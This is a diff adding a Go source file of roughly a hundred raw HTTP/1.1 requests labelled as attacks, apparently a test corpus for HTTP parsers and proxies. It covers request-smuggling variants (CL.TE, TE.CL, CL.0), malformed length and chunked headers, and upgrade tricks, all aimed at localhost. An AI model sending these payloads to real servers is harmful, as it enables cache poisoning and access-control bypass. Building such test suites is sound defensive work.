@@ -1,0 +1,121 @@
+package proof
+
+import (
+	"fmt"
+	"strings"
+)
+
+// Pieces of attacks. MARK makes targets known again.
+const (
+	post     = "POST /first-MARK HTTP/1.1\r\nHost: localhost\r\n"
+	get      = "GET /first-MARK HTTP/1.1\r\nHost: localhost\r\n"
+	smuggled = "GET /smuggled-MARK HTTP/1.1\r\nHost: localhost\r\n\r\n"
+	last     = "GET /last-MARK HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
+	chunked  = "Transfer-Encoding: chunked\r\n"
+	empty    = "0\r\n\r\n"
+)
+
+// length is a Content-Length of the body that follows it.
+func length(n int) string { return fmt.Sprintf("Content-Length: %d\r\n", n) }
+
+// attacks are the bytes a client sends on one connection.
+var attacks = map[string]string{
+	"two requests in a row":                       get + "\r\n" + smuggled + last,
+	"CL.TE":                                       post + length(len(empty+smuggled)) + chunked + "\r\n" + empty + smuggled + last,
+	"CL.TE, length first byte only":               post + length(1) + chunked + "\r\n" + empty + smuggled + last,
+	"TE.CL":                                       post + length(4) + chunked + "\r\n" + fmt.Sprintf("%x\r\n%s\r\n", len(smuggled), smuggled) + empty + last,
+	"TE.0":                                        "OPTIONS /first-MARK HTTP/1.1\r\nHost: localhost\r\n" + chunked + "\r\n" + fmt.Sprintf("%x\r\n%s\r\n", len(smuggled), smuggled) + empty + last,
+	"CL.0 on a GET":                               get + length(len(smuggled)) + "\r\n" + smuggled + last,
+	"CL.0 on a HEAD":                              strings.Replace(get, "GET", "HEAD", 1) + length(len(smuggled)) + "\r\n" + smuggled + last,
+	"CL.0 on a POST of nothing":                   post + length(0) + "\r\n" + smuggled + last,
+	"two equal lengths":                           post + length(5) + length(5) + "\r\nhello" + last,
+	"two lengths":                                 post + length(5) + length(5+len(smuggled)) + "\r\nhello" + smuggled + last,
+	"two lengths in one line":                     post + "Content-Length: 5, 5\r\n\r\nhello" + last,
+	"a signed length":                             post + "Content-Length: +5\r\n\r\nhello" + last,
+	"a negative length":                           post + "Content-Length: -5\r\n\r\nhello" + last,
+	"a length with a point":                       post + "Content-Length: 5.0\r\n\r\nhello" + last,
+	"a hexadecimal length":                        post + "Content-Length: 0x5\r\n\r\nhello" + last,
+	"a length with zeros":                         post + "Content-Length: 0000000005\r\n\r\nhello" + last,
+	"a length beyond 64 bits":                     post + "Content-Length: 18446744073709551621\r\n\r\nhello" + last,
+	"an empty length":                             post + "Content-Length: \r\n\r\nhello" + last,
+	"a space before the colon":                    post + "Content-Length : 5\r\n\r\nhello" + last,
+	"a tab before the colon":                      post + "Transfer-Encoding\t: chunked\r\n\r\n" + empty + last,
+	"a length behind a vertical tab":              post + "Content-Length:\v5\r\n\r\nhello" + last,
+	"a folded length":                             post + "Content-Length:\r\n 5\r\n\r\nhello" + last,
+	"a folded transfer encoding":                  post + "Transfer-Encoding:\r\n chunked\r\n\r\n" + empty + last,
+	"a folded header":                             get + "X-A: 1\r\n GET /smuggled-MARK HTTP/1.1\r\n\r\n" + last,
+	"a fold on the first line":                    "GET /first-MARK HTTP/1.1\r\n Host: x\r\nHost: localhost\r\n\r\n" + last,
+	"bare LF between lines":                       "GET /first-MARK HTTP/1.1\nHost: localhost\n\n" + last,
+	"bare LF within a header":                     get + "X-A: 1\nTransfer-Encoding: chunked\r\n\r\n" + smuggled + last,
+	"bare CR within a header":                     get + "X-A: 1\rTransfer-Encoding: chunked\r\n\r\n" + smuggled + last,
+	"bare CR as a line end":                       "GET /first-MARK HTTP/1.1\rHost: localhost\r\r" + last,
+	"NUL within a header":                         get + "X-A: 1\x002\r\n\r\n" + last,
+	"an unknown transfer encoding":                post + "Transfer-Encoding: xchunked\r\n" + length(len(empty+smuggled)) + "\r\n" + empty + smuggled + last,
+	"identity and length":                         post + "Transfer-Encoding: identity\r\n" + length(5) + "\r\nhello" + last,
+	"chunked twice":                               post + "Transfer-Encoding: chunked, chunked\r\n\r\n" + empty + smuggled + last,
+	"chunked on two lines":                        post + chunked + chunked + "\r\n" + empty + smuggled + last,
+	"gzip, chunked":                               post + "Transfer-Encoding: gzip, chunked\r\n\r\n" + empty + last,
+	"chunked and identity":                        post + chunked + "Transfer-Encoding: identity\r\n\r\n" + empty + smuggled + last,
+	"chunked in odd case":                         post + "tRANSFER-eNCODING: ChUnKeD\r\n\r\n5\r\nhello\r\n" + empty + last,
+	"chunked in quotes":                           post + "Transfer-Encoding: \"chunked\"\r\n\r\n" + empty + smuggled + last,
+	"chunked behind a control character":          post + "Transfer-Encoding: \x0bchunked\r\n" + length(5) + "\r\n" + empty + smuggled + last,
+	"chunk extensions":                            post + chunked + "\r\n5;a=b;c=\"d;e\"\r\nhello\r\n0;x\r\n\r\n" + last,
+	"a chunk extension with a bare LF":            post + chunked + "\r\n5;a\nhello\r\n" + empty + smuggled + last,
+	"a chunk extension with a bare CR":            post + chunked + "\r\n5;a\rb\r\nhello\r\n" + empty + smuggled + last,
+	"a very long chunk extension":                 post + chunked + "\r\n5;" + strings.Repeat("x", 1<<17) + "\r\nhello\r\n" + empty + last,
+	"a chunk size with a sign":                    post + chunked + "\r\n+5\r\nhello\r\n" + empty + last,
+	"a chunk size with 0x":                        post + chunked + "\r\n0x5\r\nhello\r\n" + empty + last,
+	"a chunk size with a space":                   post + chunked + "\r\n5 \r\nhello\r\n" + empty + last,
+	"a chunk size beyond 64 bits":                 post + chunked + "\r\n10000000000000005\r\nhello\r\n" + empty + last,
+	"a chunk size with an underscore":             post + chunked + "\r\n0_5\r\nhello\r\n" + empty + last,
+	"a chunk that ends in LF":                     post + chunked + "\r\n5\r\nhello\n" + empty + smuggled + last,
+	"a chunk longer than it says":                 post + chunked + "\r\n2\r\nhello\r\n" + empty + smuggled + last,
+	"chunk sizes ended by LF":                     post + chunked + "\r\n5\nhello\r\n0\n\n" + smuggled + last,
+	"a last chunk without its end":                post + chunked + "\r\n0\r\n" + smuggled + last,
+	"a trailer that frames":                       post + chunked + "Trailer: Content-Length\r\n\r\n0\r\nContent-Length: 50\r\nTransfer-Encoding: chunked\r\n\r\n" + smuggled + last,
+	"a trailer that names a host":                 post + chunked + "\r\n0\r\nHost: other\r\nX: y\r\n\r\n" + last,
+	"an expectation":                              post + "Expect: 100-continue\r\n" + length(5) + "\r\nhello" + last,
+	"an unknown expectation":                      post + "Expect: 200-ok\r\n" + length(len(smuggled)) + "\r\n" + smuggled + last,
+	"an expectation on a GET with a body":         get + "Expect: 100-continue\r\n" + length(len(smuggled)) + "\r\n" + smuggled + last,
+	"an absolute target":                          "GET http://localhost/first-MARK HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"an absolute target of another host":          "GET http://other.example/first-MARK HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"an absolute target and an odd port":          "GET http://localhost:1/first-MARK HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"a target without a slash":                    "GET first-MARK HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"a target with a space":                       "GET /first-MARK HTTP/1.1 HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"a target with a line end":                    "GET /first-MARK\n HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"a target with bytes above ASCII":             "GET /first-MARK\xc4\x8d\xc4\x8a HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"a fragment":                                  "GET /first-MARK#/../x HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"two hosts":                                   get + "Host: other\r\n\r\n" + last,
+	"no host":                                     "GET /first-MARK HTTP/1.1\r\n\r\n" + last,
+	"a host with a path":                          "GET /first-MARK HTTP/1.1\r\nHost: localhost/x\r\n\r\n" + last,
+	"an upgrade to h2c":                           get + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n" + smuggled + last,
+	"the preface of HTTP/2":                       "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + smuggled + last,
+	"an upgrade to a WebSocket":                   get + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" + smuggled + last,
+	"an upgrade to a WebSocket, wrong version":    "GET /ws/first-MARK HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 1\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" + smuggled + last,
+	"an upgrade to TLS":                           get + "Connection: Upgrade\r\nUpgrade: TLS/1.3\r\n\r\n" + smuggled + last,
+	"CONNECT":                                     "CONNECT localhost:80 HTTP/1.1\r\nHost: localhost:80\r\n\r\n" + smuggled + last,
+	"CONNECT to a path":                           "CONNECT /first-MARK HTTP/1.1\r\nHost: localhost\r\n\r\n" + smuggled + last,
+	"TRACE":                                       "TRACE /first-MARK HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"an unknown method":                           "SMUGGLE /first-MARK HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"OPTIONS of everything":                       "OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"HTTP/1.0":                                    "GET /first-MARK HTTP/1.0\r\nHost: localhost\r\n\r\n" + smuggled,
+	"HTTP/1.0 that stays":                         "GET /first-MARK HTTP/1.0\r\nHost: localhost\r\nConnection: keep-alive\r\n\r\n" + smuggled,
+	"HTTP/1.0, chunked":                           "POST /first-MARK HTTP/1.0\r\nHost: localhost\r\nConnection: keep-alive\r\n" + chunked + "\r\n" + fmt.Sprintf("%x\r\n%s\r\n", len(smuggled), smuggled) + empty + last,
+	"HTTP/0.9":                                    "GET /first-MARK\r\n" + smuggled,
+	"HTTP/1.2":                                    "GET /first-MARK HTTP/1.2\r\nHost: localhost\r\n\r\n" + last,
+	"HTTP/3.7":                                    "GET /first-MARK HTTP/3.7\r\nHost: localhost\r\n\r\n" + last,
+	"a hop-by-hop length":                         post + "Connection: Content-Length\r\n" + length(len(smuggled)) + "\r\n" + smuggled + last,
+	"a hop-by-hop host":                           get + "Connection: Host, X-Forwarded-For\r\n\r\n" + last,
+	"a header name with an underscore":            post + "Content_Length: 50\r\nTransfer_Encoding: chunked\r\n" + length(5) + "\r\nhello" + last,
+	"a header name with a line end in it":         get + "X\nTransfer-Encoding: chunked\r\n\r\n" + last,
+	"an empty header name":                        get + ": x\r\n\r\n" + last,
+	"a header line without a colon":               get + "Transfer-Encoding chunked\r\n\r\n" + last,
+	"many headers":                                get + strings.Repeat("X-A: b\r\n", 20000) + "\r\n" + last,
+	"a long header":                               get + "X-A: " + strings.Repeat("a", 2<<20) + "\r\n\r\n" + last,
+	"a long target":                               "GET /first-MARK?" + strings.Repeat("a", 2<<20) + " HTTP/1.1\r\nHost: localhost\r\n\r\n" + last,
+	"a body too large, with a request at the end": post + length(9<<20+len(smuggled)) + "\r\n" + strings.Repeat("a", 9<<20) + smuggled + last,
+	"a refused body, with a request in it":        post + "Content-Encoding: none-such\r\n" + length(len(smuggled)) + "\r\n" + smuggled + last,
+	"a refused card, with a request behind it":    post + "Content-Type: text/plain\r\n" + length(16) + "\r\n4111111111111111" + smuggled + last,
+	"line ends before a request":                  "\r\n\r\n\r\n" + get + "\r\n" + last,
+	"a body that ends early":                      post + length(5000) + "\r\n" + smuggled,
+}
